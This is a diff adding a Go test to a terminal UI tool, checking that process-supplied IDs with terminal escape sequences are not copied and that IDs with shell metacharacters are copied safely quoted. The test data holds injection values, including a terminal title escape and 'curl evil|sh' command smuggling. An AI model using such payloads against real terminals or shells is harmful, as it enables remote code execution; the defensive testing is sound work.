@@ -126,3 +126,34 @@ func TestCopyID(t *testing.T) {
 		t.Errorf("copied %v, status %q; want %s", got, m.status, want)
 	}
 }
+
+// TestCopyIDHostile: an ID is what a process chose. One with bytes a
+// terminal acts on is not copied (the status line shows it escaped); one
+// with characters a shell acts on is copied quoted, one word.
+func TestCopyIDHostile(t *testing.T) {
+	for _, c := range []struct{ id, want, status string }{
+		{"x\x1b]0;pwned\a\ncurl evil|sh", "", `x\x1b]0;pwned\a\ncurl`},
+		{"x;curl${IFS}evil|sh", `'x;curl${IFS}evil|sh'`, `quoted for a shell`},
+	} {
+		m := newTestModel(t, &fakeSource{views: fleetViews(1)}, &fakeKiller{})
+		var got []string
+		m.clipboard = func(s string) tea.Cmd { return func() tea.Msg { got = append(got, s); return nil } }
+		settle(m, size(250, 30), m.Init()())
+		r := m.table.selected()
+		sb := *r.sb
+		sb.ID = c.id
+		r.sb = &sb
+		if cmd := m.key(keyMsg("c")); cmd != nil {
+			settle(m, cmd())
+		}
+		switch {
+		case c.want == "" && len(got) != 0:
+			t.Errorf("%q: copied %q", c.id, got)
+		case c.want != "" && (len(got) != 1 || got[0] != c.want):
+			t.Errorf("%q: copied %q, want %q", c.id, got, c.want)
+		}
+		if sv := m.statusView(); !strings.Contains(sv, c.status) || strings.ContainsAny(sv, "\a\n") || strings.Contains(sv, "\x1b]") {
+			t.Errorf("%q: status line %q", c.id, sv)
+		}
+	}
+}
